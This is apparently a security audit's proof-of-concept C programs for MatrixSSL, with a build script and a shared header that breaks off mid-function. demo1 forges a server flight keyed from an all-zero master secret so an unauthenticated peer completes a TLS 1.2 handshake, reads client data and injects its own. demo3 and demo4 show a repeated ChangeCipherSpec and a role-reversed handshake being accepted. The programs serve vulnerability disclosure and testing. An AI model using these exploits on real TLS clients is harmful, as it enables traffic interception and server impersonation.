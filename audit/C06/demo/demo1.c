/*
   demo1: TLS 1.2 client, session object that holds both a session id and a
   session ticket.  A man in the middle who knows no secret at all answers the
   ClientHello with ServerHello(other session id, no extensions) +
   ChangeCipherSpec + Finished.

   parseServerHello() sees the session id mismatch and ZEROES
   ssl->sec.masterSecret, but the SessionTicket "limbo" exception in the
   ChangeCipherSpec handler (sslDecode.c) afterwards declares the session
   resumed and derives the record keys from that all-zero master secret.
   The attacker can compute the same keys and a valid Finished: Certificate,
   ServerKeyExchange and ServerHelloDone are all skipped and the client
   completes the handshake with an unauthenticated peer.
*/
#include "common.h"

#define CS_RSA_AES128_GCM 0x009C

/* ---- attacker side: nothing but public values --------------------------- */

typedef struct
{
    unsigned char clientRandom[32];
    unsigned char serverRandom[32];
    unsigned char ms[48];               /* all zero */
    unsigned char cwKey[32], swKey[32], cwIv[4], swIv[4];
    uint64_t swSeq, crSeq;
    psSha256_t transcript;
} attacker_t;

static void atkPrf(attacker_t *a, const char *label, const unsigned char *data,
    int dataLen, unsigned char *out, int outLen)
{
    unsigned char seed[128];
    int l = (int) strlen(label);

    memcpy(seed, label, l);
    memcpy(seed + l, data, dataLen);
    if (prf2(a->ms, 48, seed, l + dataLen, out, outLen, CRYPTO_FLAGS_SHA2) < 0)
    {
        printf("prf2 failed\n");
        exit(2);
    }
}

static int atkSeal(attacker_t *a, unsigned char type, const unsigned char *pt,
    int ptLen, unsigned char *out)
{
    psAesGcm_t ctx;
    unsigned char nonce[16] = { 0 }, aad[13];
    int i;

    memcpy(nonce, a->swIv, 4);
    for (i = 0; i < 8; i++)
    {
        nonce[4 + i] = aad[i] = (unsigned char) (a->swSeq >> (56 - 8 * i));
    }
    aad[8] = type; aad[9] = 3; aad[10] = 3;
    aad[11] = ptLen >> 8; aad[12] = ptLen & 0xff;
    out[0] = type; out[1] = 3; out[2] = 3;
    out[3] = (8 + ptLen + 16) >> 8; out[4] = (8 + ptLen + 16) & 0xff;
    memcpy(out + 5, nonce + 4, 8);
    psAesInitGCM(&ctx, a->swKey, 16);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    psAesEncryptGCM(&ctx, pt, out + 13, ptLen);
    psAesGetGCMTag(&ctx, 16, out + 13 + ptLen);
    psAesClearGCM(&ctx);
    a->swSeq++;
    return 5 + 8 + ptLen + 16;
}

/* open one client->server record; returns plaintext length or -1 */
static int atkOpen(attacker_t *a, const unsigned char *rec, unsigned char *pt)
{
    psAesGcm_t ctx;
    unsigned char nonce[16] = { 0 }, aad[13];
    int len = (rec[3] << 8) | rec[4], ptLen = len - 8 - 16, i, rc;

    memcpy(nonce, a->cwIv, 4);
    memcpy(nonce + 4, rec + 5, 8);
    for (i = 0; i < 8; i++)
    {
        aad[i] = (unsigned char) (a->crSeq >> (56 - 8 * i));
    }
    aad[8] = rec[0]; aad[9] = 3; aad[10] = 3;
    aad[11] = ptLen >> 8; aad[12] = ptLen & 0xff;
    psAesInitGCM(&ctx, a->cwKey, 16);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    rc = psAesDecryptGCM(&ctx, rec + 13, ptLen + 16, pt, ptLen);
    psAesClearGCM(&ctx);
    a->crSeq++;
    return rc < 0 ? -1 : ptLen;
}

int main(void)
{
    sslKeys_t *sk, *ck;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessionId_t *sid = NULL;
    sslSessOpts_t so, co;
    psCipher16_t suites[1] = { CS_RSA_AES128_GCM };
    unsigned char *ch, flight[512], fin[16], kb[40], seed[64], hash[32];
    unsigned char app[256];
    int32 chLen, rc, n, appLen = 0;
    attacker_t a;
    int pos;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    sk = loadServerKeys(1);
    ck = loadClientKeys(0);
    if (!sk || !ck)
    {
        return 2;
    }
    matrixSslNewSessionId(&sid, NULL);

    /* --- connection A: ordinary full handshake, no ticket extension: the
           server assigns a session id ------------------------------------ */
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersionRange(&so, v_tls_1_2, v_tls_1_2);
    matrixSslSessOptsSetClientTlsVersionRange(&co, v_tls_1_2, v_tls_1_2);
    co.ticketResumption = 0;
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, sid, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        printf("session create failed\n");
        return 2;
    }
    if (pumpHandshake(cli, srv) < 0)
    {
        printf("connection A failed\n");
        return 2;
    }
    printf("A: full handshake done, cert callback calls=%d, sid idLen=%d ticketLen=%d\n",
        g_certCbCalls, (int) matrixSslSessionIdGetSessionIdLen(sid),
        (int) matrixSslSessionIdGetSessionTicketLen(sid));
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);

    /* --- the server forgets the session: 33 other clients connect and the
           32-entry session table evicts the oldest entry ------------------ */
    {
        int i;
        for (i = 0; i < SSL_SESSION_TABLE_SIZE + 1; i++)
        {
            cli = srv = NULL;
            if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
                matrixSslNewClientSession(&cli, ck, NULL, suites, 1, certCb, NULL,
                    NULL, NULL, &co) < 0 || pumpHandshake(cli, srv) < 0)
            {
                printf("filler handshake failed\n");
                return 2;
            }
            matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
        }
    }

    /* --- connection B: same session object, tickets now enabled: the server
           no longer knows the id, does a full handshake and issues a ticket */
    co.ticketResumption = 1;
    cli = srv = NULL;
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, sid, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        return 2;
    }
    if (pumpHandshake(cli, srv) < 0)
    {
        printf("connection B failed\n");
        return 2;
    }
    printf("B: handshake done (resumed=%d), sid idLen=%d ticketLen=%d\n",
        (int) matrixSslIsResumedSession(cli),
        (int) matrixSslSessionIdGetSessionIdLen(sid),
        (int) matrixSslSessionIdGetSessionTicketLen(sid));
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
    if (matrixSslSessionIdGetSessionIdLen(sid) == 0 ||
        matrixSslSessionIdGetSessionTicketLen(sid) == 0)
    {
        printf("could not get a session object with both id and ticket\n");
        return 2;
    }

    /* --- connection C: the victim connects again; the peer is the attacker */
    cli = NULL;
    g_certCbCalls = 0;
    if (matrixSslNewClientSession(&cli, ck, sid, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        return 2;
    }
    ch = takeOut(cli, &chLen, NULL);
    printf("C: ClientHello %d bytes (session id len %d)\n", chLen, ch[5 + 4 + 2 + 32]);

    memset(&a, 0, sizeof(a));
    memcpy(a.clientRandom, ch + 5 + 4 + 2, 32);
    memset(a.serverRandom, 0xA7, 32);
    psSha256PreInit(&a.transcript);
    psSha256Init(&a.transcript);
    psSha256Update(&a.transcript, ch + 5, chLen - 5);

    /* ServerHello: version, random, EMPTY session id, suite, null compression,
       no extensions */
    pos = 0;
    flight[pos++] = 22; flight[pos++] = 3; flight[pos++] = 3;
    flight[pos++] = 0; flight[pos++] = 4 + 38;
    flight[pos++] = 2; flight[pos++] = 0; flight[pos++] = 0; flight[pos++] = 38;
    flight[pos++] = 3; flight[pos++] = 3;
    memcpy(flight + pos, a.serverRandom, 32); pos += 32;
    flight[pos++] = 0;
    flight[pos++] = CS_RSA_AES128_GCM >> 8; flight[pos++] = CS_RSA_AES128_GCM & 0xff;
    flight[pos++] = 0;
    psSha256Update(&a.transcript, flight + 5, pos - 5);
    /* ChangeCipherSpec */
    flight[pos++] = 20; flight[pos++] = 3; flight[pos++] = 3;
    flight[pos++] = 0; flight[pos++] = 1; flight[pos++] = 1;

    /* keys from the all-zero master secret */
    memcpy(seed, a.serverRandom, 32); memcpy(seed + 32, a.clientRandom, 32);
    atkPrf(&a, "key expansion", seed, 64, kb, 40);
    memcpy(a.cwKey, kb, 16); memcpy(a.swKey, kb + 16, 16);
    memcpy(a.cwIv, kb + 32, 4); memcpy(a.swIv, kb + 36, 4);

    /* Finished */
    {
        psSha256_t tmp;
        psSha256Cpy(&tmp, &a.transcript);
        psSha256Final(&tmp, hash);
    }
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = 12;
    atkPrf(&a, "server finished", hash, 32, fin + 4, 12);
    psSha256Update(&a.transcript, fin, 16);
    pos += atkSeal(&a, 22, fin, 16, flight + pos);

    rc = feed(cli, flight, pos, NULL, NULL);
    printf("C: client rc after attacker flight = %d\n", rc);
    if (rc < 0)
    {
        printf("client rejected the forged flight (rc %d): no violation\n", rc);
        return 0;
    }
    free(ch);
    ch = takeOut(cli, &chLen, &rc);
    printf("C: client answered with %d bytes, SentData rc=%d, handshakeComplete=%d, "
        "resumed=%d, cert callback calls=%d\n", chLen, rc,
        (int) matrixSslHandshakeIsComplete(cli), (int) matrixSslIsResumedSession(cli),
        g_certCbCalls);

    /* attacker checks the client's Finished record and reads application data */
    if (chLen > 6 && ch[0] == 20)
    {
        unsigned char pt[64];
        n = atkOpen(&a, ch + 6, pt);
        printf("C: attacker decrypts client Finished: %s (type %d len %d)\n",
            n == 16 ? "ok" : "FAILED", n > 0 ? pt[0] : -1, n);
    }
    if (matrixSslHandshakeIsComplete(cli))
    {
        unsigned char *wb, pt[128];
        const char *secret = "password=hunter2";
        int32 wl = matrixSslGetWritebuf(cli, &wb, strlen(secret));
        if (wl >= (int32) strlen(secret))
        {
            memcpy(wb, secret, strlen(secret));
            matrixSslEncodeWritebuf(cli, strlen(secret));
            free(ch);
            ch = takeOut(cli, &chLen, NULL);
            n = atkOpen(&a, ch, pt);
            if (n > 0)
            {
                pt[n] = 0;
                printf("C: attacker reads client application data: \"%s\"\n", pt);
            }
        }
        /* and the client accepts application data from the attacker */
        n = atkSeal(&a, 23, (const unsigned char *) "hello from mallory", 18, flight);
        rc = feed(cli, flight, n, app, &appLen);
        app[appLen] = 0;
        printf("C: client delivered attacker data to the application: \"%s\"\n", app);
        printf("VIOLATION: TLS 1.2 client completed a handshake consisting of "
            "ServerHello+CCS+Finished from a peer that knows no secret "
            "(Certificate/ServerKeyExchange/ServerHelloDone skipped, "
            "certificate callback calls=%d)\n", g_certCbCalls);
        return 1;
    }
    printf("no violation\n");
    return 0;
}
