/*
   demo3: TLS 1.2 - a repeated ChangeCipherSpec is accepted.

   Legal final server flight:   ChangeCipherSpec, Finished
   Delivered here:              ChangeCipherSpec, ChangeCipherSpec, Finished

   The ChangeCipherSpec handler in matrixSslDecode (sslDecode.c) only tests
   ssl->hsState == SSL_HS_FINISHED; it does not remember that the CCS of this
   handshake has been consumed already.  The second CCS (necessarily sent under
   the new keys) re-runs sslActivateReadCipher(), which resets the read
   sequence number to zero, and the handshake completes.
*/
#include "common.h"

#define CS_RSA_AES128_GCM 0x009C

static int gcm12Seal(const unsigned char *key, const unsigned char *salt,
    uint64_t seq, unsigned char type, const unsigned char *pt, int ptLen,
    unsigned char *out)
{
    psAesGcm_t ctx;
    unsigned char k[32] = { 0 }, nonce[16] = { 0 }, aad[13];
    int i;

    memcpy(k, key, 16);
    memcpy(nonce, salt, 4);
    for (i = 0; i < 8; i++)
    {
        nonce[4 + i] = aad[i] = (unsigned char) (seq >> (56 - 8 * i));
    }
    aad[8] = type; aad[9] = 3; aad[10] = 3; aad[11] = ptLen >> 8; aad[12] = ptLen & 0xff;
    out[0] = type; out[1] = 3; out[2] = 3;
    out[3] = (8 + ptLen + 16) >> 8; out[4] = (8 + ptLen + 16) & 0xff;
    memcpy(out + 5, nonce + 4, 8);
    psAesInitGCM(&ctx, k, 16);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    psAesEncryptGCM(&ctx, pt, out + 13, ptLen);
    psAesGetGCMTag(&ctx, 16, out + 13 + ptLen);
    psAesClearGCM(&ctx);
    return 5 + 8 + ptLen + 16;
}

int main(void)
{
    sslKeys_t *sk, *ck;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessOpts_t so, co;
    psCipher16_t suites[1] = { CS_RSA_AES128_GCM };
    unsigned char *m, out[64], one = 1;
    int32 l, rc, n, p, round;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if (controlHandshakes(v_tls_1_2, CS_RSA_AES128_GCM) < 0)
    {
        printf("CONTROL FAILED\n");
        return 3;
    }
    sk = loadServerKeys(0);
    ck = loadClientKeys(0);
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersionRange(&so, v_tls_1_2, v_tls_1_2);
    matrixSslSessOptsSetClientTlsVersionRange(&co, v_tls_1_2, v_tls_1_2);
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, NULL, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        printf("session create failed\n");
        return 2;
    }
    /* ClientHello -> ; <- SH..SHD ; CKE,CCS,Finished -> */
    for (round = 0; round < 2; round++)
    {
        m = takeOut(cli, &l, NULL);
        rc = feed(srv, m, l, NULL, NULL);
        free(m);
        if (rc < 0)
        {
            printf("server rc %d\n", rc);
            return 2;
        }
        m = takeOut(srv, &l, NULL);
        if (round == 0)
        {
            rc = feed(cli, m, l, NULL, NULL);
            free(m);
            if (rc < 0)
            {
                printf("client rc %d\n", rc);
                return 2;
            }
        }
    }
    /* m = final server flight: CCS record, Finished record */
    if (l < 6 || m[0] != 20 || m[6] != 22)
    {
        printf("unexpected final flight layout\n");
        return 2;
    }
    printf("server final flight: CCS (%d bytes) + Finished (%d bytes)\n", 6, l - 6);
    rc = feed(cli, m, 6, NULL, NULL);
    printf("client after 1st CCS: rc=%d hsState=%d readSecure=%d\n", rc, cli->hsState,
        !!(cli->flags & SSL_FLAGS_READ_SECURE));
    /* second CCS, protected with the server write key the client just activated */
    n = gcm12Seal(cli->sec.readKey, cli->sec.readIV, 0, 20, &one, 1, out);
    rc = feed(cli, out, n, NULL, NULL);
    printf("client after 2nd (encrypted) CCS: rc=%d hsState=%d flags.error=%d remSeq=%02x%02x\n",
        rc, cli->hsState, !!(cli->flags & SSL_FLAGS_ERROR),
        cli->sec.remSeq[6], cli->sec.remSeq[7]);
    if (rc < 0 || (cli->flags & SSL_FLAGS_ERROR))
    {
        printf("OK: client rejected the repeated CCS (rc %d, alert %d)\n", rc, cli->err);
        return 0;
    }
    /* the server's own Finished record (sequence number 0) */
    p = 6;
    rc = feed(cli, m + p, l - p, NULL, NULL);
    printf("client after Finished: rc=%d hsState=%d handshakeComplete=%d\n", rc,
        cli->hsState, (int) matrixSslHandshakeIsComplete(cli));
    if (matrixSslHandshakeIsComplete(cli) && rc == MATRIXSSL_HANDSHAKE_COMPLETE)
    {
        printf("VIOLATION: TLS 1.2 client completed the handshake after "
            "ChangeCipherSpec, ChangeCipherSpec, Finished (repeated CCS accepted, "
            "read sequence number reset, no unexpected_message alert)\n");
        return 1;
    }
    printf("OK: handshake did not complete\n");
    return 0;
}
