#!/bin/sh
# Builds all demos against the static libraries of the worktree (run `make -j8`
# at the worktree top level first).
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
TOP=$(cd "$HERE/../.." && pwd)
CFLAGS="-I$TOP -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl -O1 -g -Wall -Wno-unused-function -DUSE_CL_PKCS -DUSE_CL_CERTLIB"
LIBS="$TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread"
for d in "$HERE"/demo*.c; do
    n=$(basename "$d" .c)
    cc $CFLAGS -o "$HERE/$n" "$d" $LIBS
    echo "built $n"
done
