/*
   demo4: a TLS 1.2 CLIENT session that has completed its handshake accepts a
   ClientHello from its peer and runs a complete, role-reversed handshake as
   if it were a server - in a build where re-handshakes are compiled out
   (USE_REHANDSHAKING is not defined).

   parseSSLHandshake() (sslDecode.c) lets hsType==CLIENT_HELLO through when
   ssl->hsState==SSL_HS_DONE without looking at SSL_FLAGS_SERVER (the
   "rehandshake is disabled" test just above only rejects HelloRequest for a
   client), resets the context, calls parseClientHello() and then
   sslEncodeResponse() writes ServerHello, Certificate, ServerHelloDone from
   the client's own (client-authentication) identity.  ClientKeyExchange is
   then decrypted with the client's private key, ChangeCipherSpec and Finished
   are accepted and the session reports a second completed handshake.

   Sequence received by the client after its legal handshake:
        ClientHello, ClientKeyExchange, ChangeCipherSpec, Finished
   none of which a client may ever receive.
*/
#include "common.h"

#define CS_RSA_AES128_GCM 0x009C

static uint64_t be64(const unsigned char *p)
{
    uint64_t v = 0;
    int i;
    for (i = 0; i < 8; i++)
    {
        v = (v << 8) | p[i];
    }
    return v;
}

static int gcm12Seal(const unsigned char *key, const unsigned char *salt,
    uint64_t seq, unsigned char type, const unsigned char *pt, int ptLen,
    unsigned char *out)
{
    psAesGcm_t ctx;
    unsigned char k[32] = { 0 }, nonce[16] = { 0 }, aad[13];
    int i;

    memcpy(k, key, 16);
    memcpy(nonce, salt, 4);
    for (i = 0; i < 8; i++)
    {
        nonce[4 + i] = aad[i] = (unsigned char) (seq >> (56 - 8 * i));
    }
    aad[8] = type; aad[9] = 3; aad[10] = 3; aad[11] = ptLen >> 8; aad[12] = ptLen & 0xff;
    out[0] = type; out[1] = 3; out[2] = 3;
    out[3] = (8 + ptLen + 16) >> 8; out[4] = (8 + ptLen + 16) & 0xff;
    memcpy(out + 5, nonce + 4, 8);
    psAesInitGCM(&ctx, k, 16);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    psAesEncryptGCM(&ctx, pt, out + 13, ptLen);
    psAesGetGCMTag(&ctx, 16, out + 13 + ptLen);
    psAesClearGCM(&ctx);
    return 5 + 8 + ptLen + 16;
}

/* sequence number == explicit nonce in MatrixSSL's records */
static int gcm12Open(const unsigned char *key, const unsigned char *salt,
    const unsigned char *rec, unsigned char *pt)
{
    psAesGcm_t ctx;
    unsigned char k[32] = { 0 }, nonce[16] = { 0 }, aad[13];
    int len = (rec[3] << 8) | rec[4], ptLen = len - 8 - 16, rc;

    memcpy(k, key, 16);
    memcpy(nonce, salt, 4);
    memcpy(nonce + 4, rec + 5, 8);
    memcpy(aad, rec + 5, 8);
    aad[8] = rec[0]; aad[9] = 3; aad[10] = 3; aad[11] = ptLen >> 8; aad[12] = ptLen & 0xff;
    psAesInitGCM(&ctx, k, 16);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    rc = psAesDecryptGCM(&ctx, rec + 13, ptLen + 16, pt, ptLen);
    psAesClearGCM(&ctx);
    return rc < 0 ? -1 : ptLen;
}

int main(void)
{
    sslKeys_t *sk, *ck, *rk;
    ssl_t *srv = NULL, *cli = NULL, *rogue = NULL;
    sslSessOpts_t so, co;
    psCipher16_t suites[1] = { CS_RSA_AES128_GCM };
    unsigned char *m, out[4096], pt[4096], rec[4096];
    unsigned char oldS2cKey[16], oldS2cIv[4], oldC2sKey[16], oldC2sIv[4];
    unsigned char srvRandom[32], cliRandom[32], seed[128], kb[40], hash[32], fin[16];
    psSha256_t tr;
    uint64_t s2cSeq;
    int32 l, rc, n, p, rl;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    if (controlHandshakes(v_tls_1_2, CS_RSA_AES128_GCM) < 0)
    {
        printf("CONTROL FAILED\n");
        return 3;
    }
    sk = loadServerKeys(0);
    ck = loadClientKeys(1);     /* the client has an identity for client auth */
    rk = loadClientKeys(0);
    memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
    matrixSslSessOptsSetServerTlsVersionRange(&so, v_tls_1_2, v_tls_1_2);
    matrixSslSessOptsSetClientTlsVersionRange(&co, v_tls_1_2, v_tls_1_2);
    if (matrixSslNewServerSession(&srv, sk, NULL, &so) < 0 ||
        matrixSslNewClientSession(&cli, ck, NULL, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        printf("session create failed\n");
        return 2;
    }
    if (pumpHandshake(cli, srv) < 0)
    {
        printf("initial handshake failed\n");
        return 2;
    }
#ifdef SSL_REHANDSHAKES_ENABLED
    printf("note: SSL_REHANDSHAKES_ENABLED is defined in this build\n");
#else
    printf("build has no re-handshake support (SSL_REHANDSHAKES_ENABLED undefined)\n");
#endif
    printf("legal handshake complete: client hsState=%d, role flag SERVER=%d\n",
        cli->hsState, !!(cli->flags & SSL_FLAGS_SERVER));

    /* the peer (holder of the connection keys = the server) now misbehaves */
    memcpy(oldS2cKey, srv->sec.writeKey, 16); memcpy(oldS2cIv, srv->sec.writeIV, 4);
    memcpy(oldC2sKey, srv->sec.readKey, 16); memcpy(oldC2sIv, srv->sec.readIV, 4);
    s2cSeq = be64(srv->sec.seq);

    /* a stock client session is only used as a generator for a well formed
       ClientHello and ClientKeyExchange */
    if (matrixSslNewClientSession(&rogue, rk, NULL, suites, 1, certCb, NULL, NULL,
            NULL, &co) < 0)
    {
        return 2;
    }
    m = takeOut(rogue, &l, NULL);
    memcpy(cliRandom, m + 5 + 4 + 2, 32);
    psSha256PreInit(&tr); psSha256Init(&tr);
    psSha256Update(&tr, m + 5, l - 5);
    n = gcm12Seal(oldS2cKey, oldS2cIv, s2cSeq++, 22, m + 5, l - 5, out);
    free(m);
    rc = feed(cli, out, n, NULL, NULL);
    printf("client got ClientHello: rc=%d hsState=%d flags.error=%d\n", rc,
        cli->hsState, !!(cli->flags & SSL_FLAGS_ERROR));
    if (rc < 0 || (cli->flags & SSL_FLAGS_ERROR))
    {
        printf("OK: client rejected the ClientHello (rc %d, alert %d)\n", rc, cli->err);
        return 0;
    }
    m = takeOut(cli, &l, NULL);
    for (p = 0; p < l; p += 5 + rl)
    {
        rl = (m[p + 3] << 8) | m[p + 4];
        n = gcm12Open(oldC2sKey, oldC2sIv, m + p, pt);
        if (n < 4 || m[p] != 22)
        {
            printf("client sent record type %d (%d)\n", m[p], n);
            return 2;
        }
        printf("client SENT handshake message type %d (%d bytes)%s\n", pt[0], n,
            pt[0] == 2 ? " = ServerHello" : pt[0] == 11 ? " = Certificate" :
            pt[0] == 14 ? " = ServerHelloDone" : "");
        if (pt[0] == 2)
        {
            memcpy(srvRandom, pt + 4 + 2, 32);
        }
        psSha256Update(&tr, pt, n);
        rec[0] = 22; rec[1] = 3; rec[2] = 3; rec[3] = n >> 8; rec[4] = n & 0xff;
        memcpy(rec + 5, pt, n);
        rc = feed(rogue, rec, n + 5, NULL, NULL);
        if (rc < 0)
        {
            printf("generator rc %d\n", rc);
            return 2;
        }
    }
    free(m);
    /* generator output: ClientKeyExchange, CCS, Finished(client labels/keys) */
    m = takeOut(rogue, &l, NULL);
    p = 0;
    rl = (m[p + 3] << 8) | m[p + 4];
    if (m[p] != 22 || m[p + 5] != 16)
    {
        printf("unexpected generator flight\n");
        return 2;
    }
    psSha256Update(&tr, m + p + 5, rl);
    n = gcm12Seal(oldS2cKey, oldS2cIv, s2cSeq++, 22, m + p + 5, rl, out);
    rc = feed(cli, out, n, NULL, NULL);
    printf("client got ClientKeyExchange: rc=%d hsState=%d flags.error=%d\n", rc,
        cli->hsState, !!(cli->flags & SSL_FLAGS_ERROR));
    if (rc < 0 || (cli->flags & SSL_FLAGS_ERROR))
    {
        printf("OK: client rejected the message (rc %d, alert %d)\n", rc, cli->err);
        return 0;
    }
    pt[0] = 1;
    n = gcm12Seal(oldS2cKey, oldS2cIv, s2cSeq++, 20, pt, 1, out);
    rc = feed(cli, out, n, NULL, NULL);
    printf("client got ChangeCipherSpec: rc=%d hsState=%d flags.error=%d\n", rc,
        cli->hsState, !!(cli->flags & SSL_FLAGS_ERROR));
    if (rc < 0 || (cli->flags & SSL_FLAGS_ERROR))
    {
        printf("OK: client rejected the message (rc %d, alert %d)\n", rc, cli->err);
        return 0;
    }
    /* Finished as a client-role receiver expects it: "server finished" label,
       protected with the server_write key of the new key block */
    memcpy(seed, "key expansion", 13);
    memcpy(seed + 13, srvRandom, 32); memcpy(seed + 45, cliRandom, 32);
    prf2(rogue->sec.masterSecret, 48, seed, 77, kb, 40, CRYPTO_FLAGS_SHA2);
    {
        psSha256_t tmp;
        psSha256Cpy(&tmp, &tr);
        psSha256Final(&tmp, hash);
    }
    memcpy(seed, "server finished", 15);
    memcpy(seed + 15, hash, 32);
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = 12;
    prf2(rogue->sec.masterSecret, 48, seed, 47, fin + 4, 12, CRYPTO_FLAGS_SHA2);
    n = gcm12Seal(kb + 16, kb + 36, 0, 22, fin, 16, out);
    rc = feed(cli, out, n, NULL, NULL);
    printf("client got Finished: rc=%d hsState=%d flags.error=%d handshakeComplete=%d\n",
        rc, cli->hsState, !!(cli->flags & SSL_FLAGS_ERROR),
        (int) matrixSslHandshakeIsComplete(cli));
    if (rc >= 0 && !(cli->flags & SSL_FLAGS_ERROR) && matrixSslHandshakeIsComplete(cli))
    {
        /* the read direction now runs on keys from the role-reversed handshake */
        unsigned char app[64];
        int32 appLen = 0;
        n = gcm12Seal(kb + 16, kb + 36, 1, 23, (const unsigned char *) "after reversal", 14, out);
        rc = feed(cli, out, n, app, &appLen);
        app[appLen > 0 ? appLen : 0] = 0;
        printf("client delivers data protected with the new keys: \"%s\"\n", app);
        printf("VIOLATION: a TLS 1.2 client session (role flag SERVER=%d) accepted "
            "ClientHello, ClientKeyExchange, ChangeCipherSpec, Finished from its "
            "peer, answered with ServerHello/Certificate/ServerHelloDone and "
            "completed a second, role-reversed handshake (no alert; re-handshakes "
            "are compiled out)\n", !!(cli->flags & SSL_FLAGS_SERVER));
        return 1;
    }
    printf("OK: client did not complete the reversed handshake\n");
    return 0;
}
