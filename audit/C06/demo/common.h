/* Shared helpers for the C06 audit demos: in-memory client/server sessions
   of the unmodified MatrixSSL library, connected through buffers. */
#ifndef C06_COMMON_H
#define C06_COMMON_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>

#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

static int g_certCbCalls = 0;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    g_certCbCalls++;
    return alert; /* strict: whatever the library decided */
}

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
    size_t i;
    printf("%s (%zu):", label, n);
    for (i = 0; i < n; i++)
    {
        printf("%s%02x", (i % 32) ? "" : "\n  ", p[i]);
    }
    printf("\n");
}

static sslKeys_t *loadServerKeys(int withTicketKeys)
{
    sslKeys_t *keys = NULL;
    static const unsigned char tname[16] = "C06-ticket-key-1";
    static const unsigned char tsym[32] = "0123456789abcdef0123456789abcdef";
    static const unsigned char tmac[32] = "fedcba9876543210fedcba9876543210";

    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        return NULL;
    }
    if (matrixSslLoadRsaKeysMem(keys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("server key load failed\n");
        return NULL;
    }
    if (withTicketKeys)
    {
        if (matrixSslLoadSessionTicketKeys(keys, tname, tsym, 32, tmac, 32) < 0)
        {
            printf("ticket key load failed\n");
            return NULL;
        }
    }
    return keys;
}

static sslKeys_t *loadClientKeys(int withIdentity)
{
    sslKeys_t *keys = NULL;

    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        return NULL;
    }
    if (matrixSslLoadRsaKeysMem(keys,
            withIdentity ? RSA2048 : NULL, withIdentity ? RSA2048_SIZE : 0,
            withIdentity ? RSA2048KEY : NULL, withIdentity ? RSA2048KEY_SIZE : 0,
            RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("client key load failed\n");
        return NULL;
    }
    return keys;
}

/* Take everything the session wants to send. Returns malloc'd copy. */
static unsigned char *takeOut(ssl_t *ssl, int32 *len, int32 *sentRc)
{
    unsigned char *buf, *copy = NULL;
    int32 l, total = 0, rc = 0;

    while ((l = matrixSslGetOutdata(ssl, &buf)) > 0)
    {
        copy = realloc(copy, total + l);
        memcpy(copy + total, buf, l);
        total += l;
        rc = matrixSslSentData(ssl, l);
        if (rc != MATRIXSSL_REQUEST_SEND)
        {
            break;
        }
    }
    *len = total;
    if (sentRc)
    {
        *sentRc = rc;
    }
    return copy;
}

/* Feed bytes to a session. Returns the last rc of ReceivedData/ProcessedData.
   Application data delivered is appended to app/appLen when non-NULL. */
static int32 feed(ssl_t *ssl, const unsigned char *data, int32 len,
    unsigned char *app, int32 *appLen)
{
    int32 off = 0, rc = 0;

    while (off < len)
    {
        unsigned char *rb, *pt;
        uint32 ptLen;
        int32 room = matrixSslGetReadbuf(ssl, &rb);
        int32 n;

        if (room <= 0)
        {
            return -1000;
        }
        n = (len - off < room) ? len - off : room;
        memcpy(rb, data + off, n);
        off += n;
        rc = matrixSslReceivedData(ssl, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED ||
               rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                printf("    [alert received: level %d desc %d]\n", pt[0], pt[1]);
            }
            else if (app && appLen)
            {
                memcpy(app + *appLen, pt, ptLen);
                *appLen += ptLen;
            }
            rc = matrixSslProcessedData(ssl, &pt, &ptLen);
        }
        if (rc < 0)
        {
            return rc;
        }
    }
    return rc;
}

/* Run a normal handshake between two library sessions. Returns 0 when both
   report completion. */
static int pumpHandshake(ssl_t *cli, ssl_t *srv)
{
    int i, cliDone = 0, srvDone = 0;

    for (i = 0; i < 20 && !(cliDone && srvDone); i++)
    {
        unsigned char *m;
